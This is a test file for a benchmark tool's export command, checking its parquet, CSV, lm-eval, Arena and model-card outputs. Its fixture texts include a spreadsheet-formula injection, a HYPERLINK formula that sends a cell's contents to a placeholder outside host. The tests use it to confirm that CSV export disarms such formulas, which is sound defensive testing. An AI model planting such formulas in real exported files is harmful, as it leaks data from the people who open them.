/** `mt-judge export` as a process: each form is read back as the tools read it. */

import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parquetMetadata, parquetReadObjects, parquetSchema } from 'hyparquet';
import { expect, onTestFinished, test } from 'vitest';
import { parse } from 'yaml';
import { readCsv } from '../../src/benchmarks/data/csv.ts';
import { type DataDir, makeDataDir, type Run, run } from '../support/cli.ts';
import { pair } from '../support/pairs.ts';

/** Texts that a spreadsheet, a CSV or a table may stumble over. */
const texts = [
  '=HYPERLINK("http://x.example/?"&A1)',
  'two\nlines, "quoted"\r\nand 日本語',
  '-5',
  '@SUM(A1)',
  '',
];

const questions = texts.map((_, index) => ({
  question_id: index + 1,
  category: index % 2 === 0 ? 'even' : 'odd',
  turns: [`Question ${index + 1}?`],
  target: String(index),
}));

async function openBench(): Promise<{ data: DataDir; write: (...flags: string[]) => Promise<Run> }> {
  const data = makeDataDir();
  onTestFinished(data.remove);
  await data.write('questions/small.jsonl', questions);
  for (const model of ['m', 'n']) {
    const answers = texts.map((text, index) => ({
      question_id: index + 1,
      answer_id: 'a',
      model_id: model,
      choices: [{ index: 0, turns: [text] }],
      tstamp: 1764547200,
    }));
    await data.write(`answers/small/${model}.jsonl`, answers);
  }
  const judged = ['m', 'n'].flatMap((model, at) =>
    questions.map(({ question_id }, index) => ({
      question_id,
      model,
      judge: ['number@1', 'program'],
      user_prompt: '',
      judgment: texts[index],
      score: (index + at) % 2,
      scale: [0, 1],
      turn: 1,
      tstamp: 1764547200 + index,
      target: String(index),
      ...(index === 0 ? { unparsed: 'no number' } : { extracted: String(index) }),
    })),
  );
  // The last of two rows with one key counts.
  await data.write('judgments/small/number-1_single.jsonl', [{ ...judged[1], score: 0.25 }, ...judged]);
  const write = (...flags: string[]) =>
    run('mt-judge', ['export', '--bench', 'small', '--data-dir', data.path, ...flags]);
  return { data, write };
}

test('parquet holds every text as it is, numbers as numbers, and nothing as null', async () => {
  const { data, write } = await openBench();
  const out = join(data.path, 'answers.parquet');
  const { code, stdout } = await write('--to', 'parquet', '--what', 'answers', '--out', out);
  expect({ code, stdout }).toEqual({ code: 0, stdout: `${out}: 10 rows, 19 columns\n` });
  const file = new Uint8Array(await readFile(out)).buffer;
  const rows = await parquetReadObjects({ file });
  expect(rows.filter(({ model }) => model === 'm').map(({ answer }) => answer)).toEqual(texts);
  expect(rows[0]).toMatchObject({ bench: 'small', question_id: '1', category: 'even', turn: 1, choice: 0 });
  expect(rows[0]).toMatchObject({
    question: 'Question 1?',
    input_tokens: null,
    demo: false,
    tstamp: 1764547200,
  });
  const kinds = parquetSchema(parquetMetadata(file)).children.map(({ element }) => [
    element.name,
    element.type,
  ]);
  expect(kinds).toContainEqual(['latency_ms', 'DOUBLE']);
  expect(kinds).toContainEqual(['turn', 'INT32']);
});

test('judgments as parquet: the last of duplicate rows, unparsed with its reason', async () => {
  const { data, write } = await openBench();
  const out = join(data.path, 'judgments.parquet');
  await write('--to', 'parquet', '--out', out, '--model-list', 'm');
  const rows = await parquetReadObjects({ file: new Uint8Array(await readFile(out)).buffer });
  expect(rows.map(({ score, unparsed }) => [score, unparsed])).toEqual([
    [1, null],
    [0, 'no number'],
    [0, null],
    [1, null],
    [0, null],
  ]);
});

test('CSV keeps line breaks and quotes, and disarms what a spreadsheet would run', async () => {
  const { data, write } = await openBench();
  const out = join(data.path, 'answers.csv');
  await write('--to', 'csv', '--what', 'answers', '--out', out, '--model-list', 'm');
  const text = await readFile(out, 'utf8');
  expect(text).toMatch(/^bench,question_id,category,.*\r\n/);
  const read = readCsv(text);
  const [head, ...rows] = 'records' in read ? read.records.map(({ cells }) => cells) : [];
  const answers = rows.map((cells) => cells[head?.indexOf('answer') ?? -1]);
  expect(answers).toEqual([`'${texts[0]}`, texts[1], "'-5", "'@SUM(A1)", '']);
  expect(text).not.toMatch(/(?:^|,)"?[=@]/m);
});

test('results as CSV are the figures of show-results', async () => {
  const { data, write } = await openBench();
  const out = join(data.path, 'results.csv');
  await write('--to', 'csv', '--what', 'results', '--out', out);
  const read = readCsv(await readFile(out, 'utf8'));
  const [head = [], ...rows] = 'records' in read ? read.records.map(({ cells }) => cells) : [];
  const column = (name: string) => rows.map((cells) => cells[head.indexOf(name)]);
  const shown = await run('show-results', ['--bench', 'small', '--data-dir', data.path, '--format', 'json']);
  const board = JSON.parse(shown.stdout);
  const averages = rows.filter((_, index) => column('scope')[index] === 'average');
  expect(
    averages.map((cells) => [cells[head.indexOf('model')], Number(cells[head.indexOf('score')])]),
  ).toEqual(
    board.models.map(({ model, average }: { model: string; average: { score: number } }) => [
      model,
      average.score,
    ]),
  );
  expect(new Set(column('scope'))).toEqual(new Set(['average', 'turn', 'category']));
});

test('lm-eval samples are read back by our own import of lm-eval, with the same scores', async () => {
  const { data, write } = await openBench();
  const out = join(data.path, 'harness');
  expect((await write('--to', 'lm-eval', '--out', out)).code).toBe(0);
  const [name = ''] = (await readdir(join(out, 'm'))).filter((each) => each.startsWith('samples_'));
  expect(name).toBe('samples_small_2025-12-01T00-00-04.000000.jsonl');
  const samples = (await readFile(join(out, 'm', name), 'utf8'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(samples[0]).toMatchObject({
    doc_id: 0,
    target: '0',
    arguments: { gen_args_0: { arg_0: 'Question 1?', arg_1: { until: [] } } },
    resps: [[texts[0]]],
    filtered_resps: ['[invalid]'],
    filter: 'number@1',
    metrics: ['score'],
    score: 0,
    prompt_hash: createHash('sha256').update('Question 1?').digest('hex'),
  });
  const again = join(data.path, 'again');
  const imported = await run('mt-judge', ['import', 'lm-eval', out, '--data-dir', again, '--quiet']);
  expect(imported.code, imported.stderr).toBe(0);
  const [file = ''] = await readdir(join(again, 'judgments', 'small'));
  const rows = await data.records(`again/judgments/small/${file}`);
  const ours = await data.records('judgments/small/number-1_single.jsonl');
  const scores = (all: typeof rows) => all.map(({ model, score }) => [model, score]);
  expect(scores(rows)).toEqual(scores(ours.slice(1)));
});

test('hashes of exported samples are made as lm-eval makes its own', async () => {
  const folder = new URL('../benchmarks/tools/fixtures/lm-eval/harbour-a/', import.meta.url);
  const [name = ''] = (await readdir(folder)).filter((each) => each.startsWith('samples_'));
  const [sample] = (await readFile(new URL(name, folder), 'utf8'))
    .split('\n')
    .map((line) => JSON.parse(line || '{}'));
  const hash = (text: string) => createHash('sha256').update(text).digest('hex');
  expect(sample.doc_hash).toBe(hash(JSON.stringify(sample.doc, null, 2)));
  expect(sample.prompt_hash).toBe(hash(sample.arguments.gen_args_0.arg_0[0]));
  expect(sample.target_hash).toBe(hash(sample.target));
});

test('battles have the fields of Chatbot Arena, and games that disagree are a tie', async () => {
  const { data, write } = await openBench();
  const extra = (question_id: number, tstamp: number) => ({
    ...{ question_id, tstamp },
    ...{ g1_user_prompt: '', g1_judgment: '', g2_user_prompt: '', g2_judgment: '' },
  });
  await data.write('judgments/small/j_pair.jsonl', [
    pair('m n', '1 1', extra(1, 30)),
    pair('m n', '1 2', extra(2, 20)),
    pair('m n', '2 2', extra(3, 10)),
    pair('m n', '1 error', extra(4, 5)),
    pair('m n', 'tie tie', { ...extra(5, 40), games: 1, both_bad: true }),
  ]);
  const out = join(data.path, 'battles.json');
  const { stdout, stderr } = await write('--to', 'arena', '--out', out);
  expect(stdout).toBe(`${out}: 4 battles\n`);
  expect(stderr).toBe('warning: 1 judgments with an error in a game are left out\n');
  const battles = JSON.parse(await readFile(out, 'utf8'));
  expect(
    battles.map(({ question_id, winner, consistent }: Record<string, unknown>) => [
      question_id,
      winner,
      consistent,
    ]),
  ).toEqual([
    [3, 'model_b', true],
    [2, 'tie', false],
    [1, 'model_a', true],
    [5, 'tie (bothbad)', true],
  ]);
  expect(battles[2]).toMatchObject({
    ...{ model_a: 'm', model_b: 'n', judge: 'j', turn: 1, anony: true, language: 'unknown', tstamp: 30 },
    conversation_a: [
      { role: 'user', content: 'Question 1?' },
      { role: 'assistant', content: texts[0] },
    ],
  });
});

test('a card names bench, hash, judges and dates, and a model-index has what the hub requires', async () => {
  const { data, write } = await openBench();
  const out = join(data.path, 'card');
  expect((await write('--to', 'card', '--out', out)).code).toBe(0);
  const card = await readFile(join(out, 'README.md'), 'utf8');
  const sha256 = createHash('sha256')
    .update(await data.read('questions/small.jsonl'))
    .digest('hex');
  expect(card).toMatch(/^---\npretty_name: Answers and judgments of small\n/);
  for (const part of [sha256, '| judged | 2025-12-01 |', '| number@1 | a program | – | 1 |', '| n | 0.60']) {
    expect(card).toContain(part);
  }
  const [index] = parse(await readFile(join(out, 'model-index', 'n.yaml'), 'utf8'))['model-index'];
  expect(index).toMatchObject({
    name: 'n',
    results: [
      {
        task: { type: 'text-generation' },
        dataset: { name: 'small', type: 'small' },
        metrics: [{ type: 'accuracy', value: 0.6, name: 'accuracy by number@1', args: { n: 5 } }],
      },
    ],
  });
  expect(JSON.parse(await readFile(join(out, 'results.json'), 'utf8'))).toMatchObject({ bench: 'small' });
});

test('a file that is there is kept, unless --overwrite; what is not there is said in one line', async () => {
  const { data, write } = await openBench();
  const out = await data.write('mine.csv', 'mine');
  const refused = await write('--to', 'csv', '--out', out);
  expect(refused).toMatchObject({
    code: 2,
    stderr: `mt-judge: ${out} is there: name another (--out), or replace it (--overwrite)\n`,
  });
  expect(await data.read('mine.csv')).toBe('mine');
  expect((await write('--to', 'csv', '--out', out, '--overwrite')).code).toBe(0);
  for (const [flags, message] of [
    [
      ['--to', 'arena', '--out', 'x'],
      /no pair judgments of the bench "small": run gen-judgment --mode pairwise-all/,
    ],
    [['--to', 'csv', '--out', 'x', '--judge', 'absent'], /no judgments of the bench "small"/],
    [
      ['--to', 'parquet', '--what', 'answers', '--out', 'x', '--model-list', 'absent'],
      /no answers of the bench "small"/,
    ],
    [['--to', 'card', '--what', 'answers', '--out', 'x'], /--what goes with --to parquet and csv/],
  ] as const) {
    const { code, stderr } = await write(...flags);
    expect(code).toBe(2);
    expect(stderr).toMatch(message);
    expect(stderr.trim().split('\n')).toHaveLength(1);
  }
});
